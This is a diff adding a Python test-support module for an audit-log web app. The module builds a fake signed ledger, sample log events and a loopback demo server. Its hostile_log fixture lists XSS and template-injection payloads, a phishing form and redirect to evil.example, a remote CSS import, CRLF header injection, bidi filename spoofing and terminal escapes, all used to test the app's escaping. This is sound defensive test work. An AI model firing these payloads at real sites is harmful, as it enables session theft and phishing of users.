@@ -1,0 +1,355 @@
+"""A small ledger in memory behind the `Reading` protocol: true formats, true proofs, no disk.
+
+Not a test itself; run as a program it serves the pages on a loopback port, for looking at them.
+"""
+
+import gzip
+import json
+import sys
+import tempfile
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+from whodid.app.answer import (
+    Caller,
+    EventProof,
+    Health,
+    Hit,
+    SearchAnswer,
+    SourceInfo,
+)
+from whodid.app.event_proof import check_proof
+from whodid.errors import UsageError
+from whodid.event import (
+    EMPTY_CONTENT,
+    Context,
+    Envelope,
+    Event,
+    What,
+    When,
+    Where,
+    Who,
+    encode_groups,
+)
+from whodid.ledger.leaf import Leaf, LeafFlag
+from whodid.merkle.checkpoint import Checkpoint, Vkey, sign_note
+from whodid.merkle.commitment import commit
+from whodid.merkle.tree import hash_leaves, inclusion_proof, perfect_root, root_of
+from whodid.normalize.authlog import AuthLog
+from whodid.normalize.cloudtrail import CloudTrail
+from whodid.normalize.combined import Combined
+from whodid.normalize.postgres import Postgres
+from whodid.normalize.record import prepare
+from whodid.normalize.short_json import ShortJson
+from whodid.query.match import matcher
+from whodid.query.own import hides_own, is_own
+from whodid.query.parse import parse
+from whodid.query.times import resolve
+
+PASSWORD = "correct horse battery staple"
+NOW_US = 1_795_350_000_000_000  # 2026-11-22T12:20:00Z, a Sunday
+ORIGIN = "log.example/whodid/0f1e2d3c4b5a69788796a5b4c3d2e1f0"
+KEY = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
+VKEY = Vkey.of(ORIGIN, KEY.public_key().public_bytes_raw())
+FORMATS = {f.name: f for f in (ShortJson(), CloudTrail(), Combined(), Postgres(), AuthLog())}
+
+
+@dataclass
+class FakeLog:
+    """`calls` holds (method, caller) of every read, `recorded` what faces wrote themselves."""
+
+    hits: list[Hit] = field(default_factory=list)
+    formats: dict[str, str] = field(default_factory=dict)
+    calls: list[tuple[str, Caller]] = field(default_factory=list)
+    recorded: list[tuple] = field(default_factory=list)
+    stopped: str | None = None
+    fail: Exception | None = None
+    warnings: list[str] = field(default_factory=list)
+    tampered: bool = False
+
+    def add(self, event: Event, flags: int = 0) -> Hit:
+        hit = Hit(len(self.hits), event, event.when.received + 900, flags)
+        self.hits.append(hit)
+        return hit
+
+    def ingest(self, source: str, format_name: str, record: bytes, **leaf) -> Hit:
+        self.formats[source] = format_name
+        number = len(self.hits)
+        received_us = leaf.pop("received_us", NOW_US)
+        mapped = FORMATS[format_name].map(record, received_us)
+        if mapped.time is not None:
+            received_us = mapped.time + 1_200_000
+        event = prepare(
+            mapped,
+            record,
+            event_id=f"019ab000-0000-7000-8000-{number:012x}",
+            source=source,
+            format_name=format_name,
+            mapping=1,
+            received_us=received_us,
+            request=("fake", number),
+        ).event
+        flags = leaf.pop("flags", 0)
+        if event.envelope.quarantine is not None:
+            flags |= LeafFlag.QUARANTINED
+        if event.envelope.redactions:
+            flags |= LeafFlag.REDACTED
+        return self.add(event, flags)
+
+    # --- Reading ---------------------------------------------------------------------------------
+
+    def _called(self, method, caller):
+        self.calls.append((method, caller))
+        if self.fail is not None:
+            raise self.fail
+
+    def search(self, caller, text, *, limit=50, before=None, own=False):
+        query = resolve(parse(text), NOW_US)
+        self._called("search", caller)
+        states = {hit.event.when.id: hit.flags for hit in self.hits}
+
+        def states_of(event):
+            return {"_conflict"} if states[event.when.id] & LeafFlag.CONFLICT else set()
+
+        matches = matcher(query.filter, states_of)
+        found = [hit for hit in self.hits if matches(hit.event)]
+        hide = hides_own(query) and not own
+        shown = [hit for hit in found if not (hide and is_own(hit.event))]
+        shown.sort(key=lambda hit: (_time(hit), hit.index), reverse=True)
+        start = int(before.removeprefix("c~")) if before else 0
+        end = start + limit
+        return SearchAnswer(
+            shown[start:end], len(shown), len(shown) <= 1000, len(found) - len(shown),
+            f"c~{end}" if end < len(shown) else None,
+            self.note(), len(self.hits), list(self.warnings),
+        )  # fmt: skip
+
+    def event(self, caller, event_id):
+        self._called("event", caller)
+        return self._find(event_id)
+
+    def verify_event(self, caller, event_id):
+        self._called("verify_event", caller)
+        hit = self._find(event_id)
+        leaves = [self._leaf(other).encode() for other in self.hits]
+        groups = encode_groups(hit.event)
+        if self.tampered:
+            groups = (*groups[:6], groups[6] + b" ", groups[7])
+        proof = EventProof(
+            hit.index, leaves[hit.index], _seed(hit), groups, self.note(), len(leaves),
+            _prove(hash_leaves(leaves), hit.index), VKEY.encode(),
+        )  # fmt: skip
+        return hit, check_proof(proof, VKEY)
+
+    def sources(self, caller):
+        self._called("sources", caller)
+        infos = []
+        for name, format_name in self.formats.items():
+            own = [hit for hit in self.hits if hit.event.envelope.source == name]
+            bad = [hit for hit in own if hit.flags & LeafFlag.QUARANTINED]
+            newest = max(map(_time, own), default=None)
+            opened = NOW_US - 30 * 86_400_000_000
+            infos.append(SourceInfo(name, format_name, name, opened, len(own), len(bad), newest))
+        return infos
+
+    def record(self, caller, action, resource, *, ok=True, reason=None, content=None):
+        if self.fail is not None:
+            raise self.fail
+        self.recorded.append((caller.name, action, resource, ok, reason))
+
+    def health(self):
+        size = len(self.hits)
+        return Health(not self.stopped, [], size, size, 0, size, self.stopped)
+
+    # --- the ledger ------------------------------------------------------------------------------
+
+    def note(self) -> str:
+        leaves = [self._leaf(hit).encode() for hit in self.hits]
+        root = root_of(hash_leaves(leaves))
+        return sign_note(Checkpoint(ORIGIN, len(leaves), root).body(), ORIGIN, KEY)
+
+    def _leaf(self, hit: Hit) -> Leaf:
+        commitment = commit(_seed(hit), encode_groups(hit.event))
+        return Leaf(1, hit.flags, 0, b"s" * 16, 0, 0, hit.appended_us, b"t" * 16, commitment)
+
+    def _find(self, event_id: str) -> Hit:
+        for hit in self.hits:
+            if hit.event.when.id == event_id:
+                return hit
+        raise UsageError(f"there is no event {event_id[:64]!r} in this ledger")
+
+
+def _prove(hashes, index):
+    def node(level, at):
+        return perfect_root(hashes[at << level : (at + 1) << level])
+
+    return inclusion_proof(index, len(hashes), node)
+
+
+def _time(hit: Hit) -> int:
+    when = hit.event.when
+    return when.received if when.time is None else when.time
+
+
+def _seed(hit: Hit) -> bytes:
+    return hit.index.to_bytes(16, "big")
+
+
+# --- stories -------------------------------------------------------------------------------------
+
+
+def short(**fields) -> bytes:
+    return json.dumps(fields).encode()
+
+
+def small_log() -> FakeLog:
+    """A dozen events of four formats, one each of what the page must be able to show."""
+    log = FakeLog()
+    log.ingest("files", "json", short(
+        timestamp="2023-10-21T15:45:23.136Z", userId="john.doe@example.com", action="FILE_UPLOAD",
+        resource="customer-records.csv", status="SUCCESS",
+    ))  # fmt: skip
+    log.ingest("crm", "json", short(
+        timestamp="2026-11-22T10:30:15.123456Z", userId="alice", action="SELECT",
+        resource="customers", status="SUCCESS", rows=1204, ip="203.0.113.9",
+        correlation_id="c0ffee-1", session_id="s-77",
+    ))  # fmt: skip
+    log.ingest("crm", "json", short(
+        timestamp="2026-11-22T10:31:00Z", userId="bob", action="DELETE", resource="invoices/7",
+        status="DENIED", ip="2001:db8::7", api_key="sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dc",
+        password="hunter2-hunter2",
+    ))  # fmt: skip
+    log.ingest("web", "combined", (
+        b'198.51.100.4 - - [21/Nov/2026:23:59:59 +0000] "GET /admin?x=1 HTTP/1.1" 403 153 "-" '
+        b'"curl/8.5.0"'
+    ))  # fmt: skip
+    log.ingest("bastion", "authlog", (
+        b"Nov 22 03:12:44 bastion sshd[4711]: Failed password for invalid user oracle from "
+        b"203.0.113.77 port 40022 ssh2"
+    ))  # fmt: skip
+    log.ingest("crm", "json", b'{"broken": ', flags=LeafFlag.CONFLICT)
+    log.add(own_event(len(log.hits)))
+    return log
+
+
+def own_event(number: int) -> Event:
+    """One of whodid's own events."""
+    event_id = f"019ab000-0000-7000-8000-{number:012x}"
+    return Event(
+        When(event_id, NOW_US, NOW_US), Who(actor_id="admin", actor_type="user"),
+        What("search", "read", "ledger", "events", outcome="success", rows=6),
+        Where(ip="127.0.0.1"),
+        Context(service_name="whodid", endpoint="web"), EMPTY_CONTENT, b"",
+        Envelope("whodid", "own", 1, "client", event_id),
+    )  # fmt: skip
+
+
+def story_log(events: int = 4_000) -> FakeLog:
+    """Thirty days of the demo's company."""
+    from whodid.demo.story import write_story
+
+    log = FakeLog()
+    with tempfile.TemporaryDirectory() as folder:
+        for file in write_story(Path(folder), end_us=NOW_US, events=events):
+            if file.duplicates:
+                continue
+            data = file.path.read_bytes()
+            if file.path.suffix == ".gz":
+                data = gzip.decompress(data)
+            if data.startswith(b'{"Records":['):
+                records = [json.dumps(r).encode() for r in json.loads(data)["Records"]]
+            else:
+                records = data.splitlines()
+            for record in records:
+                log.ingest(file.source, file.format, record)
+    log.add(own_event(len(log.hits)))
+    return log
+
+
+def hostile_log() -> tuple[FakeLog, list[str]]:
+    """One event per hostile text, the text in every field of it."""
+    log = FakeLog()
+    for number, text in enumerate(HOSTILE):
+        log.add(hostile_event(number, text), LeafFlag.QUARANTINED | LeafFlag.CONFLICT)
+        log.add(hostile_event(number + 1000, text, quarantine=None))
+    return log, HOSTILE
+
+
+CANARY = "document.title='OWNED'"
+HOSTILE = [
+    f"<script>{CANARY}</script>",
+    f'"><img src=x onerror="{CANARY}">',
+    f"'><svg/onload={CANARY}>",
+    f"javascript:{CANARY}",
+    f"</title></pre></table><script>{CANARY}</script>",
+    f"--><script>{CANARY}</script><!--",
+    f"{{{{ 7*7 }}}}{{% include 'base.html' %}}<iframe srcdoc='<script>{CANARY}</script>'></iframe>",
+    f'" onmouseover="{CANARY}" autofocus onfocus="{CANARY}" x="',
+    "<form action=https://evil.example/><input name=csrf><button>Verify</button>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
+    "invoice\u202egnp.exe",
+    "\u2066isolate\u2069 \u200bzero\u00a0width\ufeff",
+    "\x1b[2J\x1b]0;OWNED\x07\x1b[31mred",
+    "a\0b\x01\x7f\x80\x9f",
+    "\r\nSet-Cookie: whodid_session=evil\r\n",
+    "x" * 8000,
+    "ملف/سري " * 20,
+    "\u0300" * 400 + "zalgo",
+    "&lt;b&gt; &amp;#60;script&gt; &#x3c;script&#x3e;",
+]
+
+
+def hostile_event(number: int, text: str, quarantine: str | None = "") -> Event:
+    """An event with the text in every field that holds text."""
+    from whodid.event import Change, Content, Redaction
+
+    raw = json.dumps({text: text, "nested": [text, {text: 1}]}, ensure_ascii=False).encode()
+    event_id = f"019ab000-0000-7000-8000-{number:012x}"
+    many = (text, text)
+    return Event(
+        When(event_id, NOW_US, NOW_US - number, text),
+        Who(text, text, "agent", text, text, many),
+        What(text, "read", text, text, text, many, many, "denied", text, 5, 6),
+        Where(text, text, 7, text, many),
+        Context(text, text, text, text, text, text, text, 8),
+        Content(text, (Change(text, text, text), Change(text)), text, many),
+        raw,
+        Envelope(
+            text, text, 1, "client", text, many,
+            text if quarantine == "" else quarantine, (Redaction(2, 8, text),), text,
+        ),
+    )  # fmt: skip
+
+
+def site_of(log: FakeLog, folder: Path, *, demo: bool = True):
+    """The pages of this log as an application, its doorkeeper, and its user `admin`."""
+    from starlette.applications import Starlette
+
+    from whodid.access.doorkeeper import Doorkeeper
+    from whodid.access.password import Cost
+    from whodid.ledger.state_db import StateDb
+    from whodid.web.make_web import make_web
+    from whodid.web.site import PublicLog
+
+    StateDb(folder).close()
+    doorkeeper = Doorkeeper(folder, cost=Cost(memory_kib=8, passes=1, lanes=1))
+    admin = doorkeeper.users.add("admin", PASSWORD)
+    public = PublicLog(ORIGIN, VKEY.encode(), "/ledger/demo", log.note)
+    web = make_web(log, doorkeeper, public, demo=demo)
+    app = Starlette(routes=web.routes, middleware=web.middleware)
+    return app, doorkeeper, admin
+
+
+if __name__ == "__main__":
+    import uvicorn
+
+    logs = {"story": story_log, "empty": FakeLog, "small": small_log,
+            "hostile": lambda: hostile_log()[0]}  # fmt: skip
+    with tempfile.TemporaryDirectory() as name:
+        app, doorkeeper, admin = site_of(logs[sys.argv[2]](), Path(name))
+        link = doorkeeper.sessions.issue_link(admin)
+        print(f"http://127.0.0.1:{sys.argv[1]}/login/{link}", flush=True)
+        uvicorn.run(app, host="127.0.0.1", port=int(sys.argv[1]), log_level="warning")
